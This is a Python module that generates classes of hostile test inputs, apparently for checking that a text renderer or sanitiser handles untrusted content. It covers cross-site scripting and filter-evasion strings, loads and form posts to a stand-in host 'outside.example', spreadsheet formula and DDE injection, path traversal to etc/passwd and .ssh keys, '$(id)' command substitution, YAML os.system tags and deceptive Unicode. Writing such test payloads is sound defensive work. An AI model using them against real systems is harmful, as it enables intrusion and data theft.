"""Words that attack: classes of them, each made by us and in no list of others."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping

BODY = (
    "A storm cut power to 40,000 homes in Riga on Monday, the energy ministry said. Crews worked through "
    "the night to mend the lines, and schools in the capital will stay closed until Wednesday."
)

OUTSIDE = "outside.example"
"""The host that nothing may be loaded from."""


def _tags() -> Iterator[str]:
    """Tags that run, load or restyle, in spellings that filters miss."""
    act = "window.hacked=1"
    yield f"<script>{act}</script>"
    yield f"<SCRIPT\t>{act}</SCRIPT >"
    yield f"<scr<script>ipt>{act}</scr</script>ipt>"
    yield f"</script><script>{act}</script>"
    yield f"</style><script>{act}</script>"
    yield f"</title></textarea></noscript><script>{act}</script>"
    yield f"<!--><script>{act}</script>-->"
    yield f"<![CDATA[<script>{act}</script>]]>"
    yield f"<script src=//{OUTSIDE}/a.js></script>"
    for tag in ("iframe", "img", "embed", "video", "audio", "input type=image"):
        yield f"<{tag} src=https://{OUTSIDE}/a>"
    yield f"<object data=https://{OUTSIDE}/a></object>"
    yield f"<link rel=stylesheet href=https://{OUTSIDE}/a.css>"
    yield f"<base href=https://{OUTSIDE}/>"
    yield f"<meta http-equiv=refresh content='0;url=https://{OUTSIDE}/'>"
    yield "<style>body{display:none}</style>"
    yield f"<div style='background:url(https://{OUTSIDE}/a)'>x</div>"
    yield f"<form action=https://{OUTSIDE}/><button>go</button></form>"


def _handlers() -> Iterator[str]:
    """Event handlers, inside a tag and out of a value of an attribute."""
    act = "window.hacked=1"
    for tag, event in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onpageshow"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("video src=x", "onerror"),
        ("a href=#", "onclick"),
        ("div", "onmouseover"),
    ):
        yield f"<{tag} {event}={act}>"
        yield f"<{tag}/{event}\n=\n'{act}'>"
    for quote in ("'", '"', "`"):
        yield f"{quote} onmouseover={act} x={quote}"
        yield f"{quote}><svg onload={act}>"


def _addresses() -> Iterator[str]:
    """Addresses that run, and links and images of Markdown that load."""
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "&#106;avascript:",
        "data:text/html,",
        "vbscript:",
    ):
        yield f"{scheme}window.hacked=1"
        yield f"[read on]({scheme}window.hacked=1)"
        yield f"<a href='{scheme}window.hacked=1'>read on</a>"
    yield f"![](https://{OUTSIDE}/a.png)"
    yield f"![a][b]\n\n[b]: https://{OUTSIDE}/a.png"
    yield f"[a](https://{OUTSIDE}/)"
    yield f"<https://{OUTSIDE}/>"
    yield f"www.{OUTSIDE}/a and https://{OUTSIDE}/b and a@{OUTSIDE}"


def _markup() -> Iterator[str]:
    """What Markdown, LaTeX and Streamlit would make into something else."""
    yield from (
        "$x^2$",
        "$$\\frac{1}{0}$$",
        "$\\href{javascript:window.hacked=1}{x}$",
        "$\\unicode{x41}$",
        "$100 and $200",
    )
    yield from (
        ":material/home:",
        ":red[alarm]",
        ":blue-background[x]",
        ":small[x]",
        ":badge[x]",
        ":rainbow[x]",
        ":smile:",
    )
    yield from (
        "# heading",
        "1. item",
        "- item",
        "> quote",
        "```code```",
        "`code`",
        "*a* _b_ **c** ~~d~~",
        "5~6 and 7~8",
    )
    yield from (
        "a | b\n--|--\n1 | 2",
        "line  \nbreak",
        "-> <- => --",
        "\\*not\\*",
        "[^1] and [^1]: note",
        "<!-- gone -->",
    )


def _entities() -> Iterator[str]:
    """Entities and encodings that turn into tags where somebody decodes them once more."""
    yield from (
        "&lt;script&gt;window.hacked=1&lt;/script&gt;",
        "&#60;script&#62;",
        "&#x3c;img src=x onerror=window.hacked=1&#x3e;",
    )
    yield from (
        "%3Cscript%3Ewindow.hacked%3D1%3C/script%3E",
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        "+ADw-script+AD4-",
    )
    yield from (
        "＜script＞window.hacked=1＜/script＞",
        "&amp;lt;script&amp;gt;",
        "&notanentity; &",
        "]]>",
        "{{7*7}}",
        "{% raw %}",
        "${7*7}",
        "<%= 7*7 %>",
    )


def _formulas() -> Iterator[str]:
    """What a spreadsheet runs, also behind blanks that it drops."""
    calls = (
        "1+1",
        "cmd|' /C calc'!A0",
        f'HYPERLINK("http://{OUTSIDE}","x")',
        f'WEBSERVICE("http://{OUTSIDE}")',
        'DDE("a";"b";"c")',
    )
    for sign in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u200b=",
        "\ufeff=",
        "＝",
        "＋",
        "－",
        "＠",
    ):
        for call in calls:
            yield f"{sign}{call}"
    yield "@SUM(1+1)*cmd|' /C calc'!A0"
    yield "%0A=1+1"
    yield "'=1+1"
    yield '"=1+1"'


def _characters() -> Iterator[str]:
    """Characters that hide, turn round or break what stands beside them."""
    yield from (
        "\u202egnp.elif",
        "\u2066a\u2069 \u202b b \u202c",
        "\u200b\u200c\u200d\u2060\ufeff",
        "\u00ad" * 40,
    )
    yield from (
        "a\x00b",
        "\x00",
        "\x1b[31mred\x1b[0m",
        "\x07\x08",
        "\u2028line\u2029end",
        "\x85",
        "\ud83d",
        "\udc00\ud800",
        "\ufffe\uffff",
    )
    yield from (
        "e" + "\u0301" * 400,
        "Z\u0351\u036b\u0343a\u0351l\u0363g\u0300o" * 20,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\ufdfd" * 50,
    )
    yield from (
        "x" * 20_000,
        "(" * 5_000,
        "“" * 500,
        "a " * 5_000,
        "\n" * 2_000,
        "İ" * 200,
        "ß" * 200,
        "\U000e0041" * 50,
    )


def _paths() -> Iterator[str]:
    """Names that lead elsewhere."""
    for up in (
        "../",
        "..\\",
        "%2e%2e/",
        "....//",
        "..;/",
        "/",
        "C:\\",
        "\\\\host\\share\\",
        "file:///",
        "~/",
    ):
        yield f"{up * 3 if '.' in up else up}etc/passwd"
    yield from (
        "CON",
        "NUL.txt",
        "a/./b",
        "a//b",
        ".",
        "..",
        "",
        "a\x00.txt",
        "aux|b",
        "a:b",
        "?*<>",
        "x" * 300,
        ".ssh/id",
        "$HOME",
        "`id`",
        "$(id)",
    )


def _yaml() -> Iterator[str]:
    """Values that YAML takes for more than words."""
    yield from (
        "!!python/object/apply:os.system ['true']",
        "!!python/name:os.system",
        "!<tag:x> y",
        "*nobody",
        "&a [*a]",
        "{a: *b}",
    )
    yield from (
        "[[[[[[]]]]]]",
        "? x",
        "- - - -",
        "|",
        ">-",
        "%TAG ! x",
        "!!binary ====",
        "!!timestamp x",
        "yes",
        "~",
        "0o17",
        "1_000",
        "<<: *a",
    )


CLASSES: Mapping[str, Callable[[], Iterator[str]]] = {
    "tags": _tags,
    "handlers": _handlers,
    "addresses": _addresses,
    "markup": _markup,
    "entities": _entities,
    "formulas": _formulas,
    "characters": _characters,
    "paths": _paths,
    "yaml": _yaml,
}


def payloads() -> list[tuple[str, str]]:
    """Return every payload with the name of its class."""
    return [(name, payload) for name, make in CLASSES.items() for payload in make()]
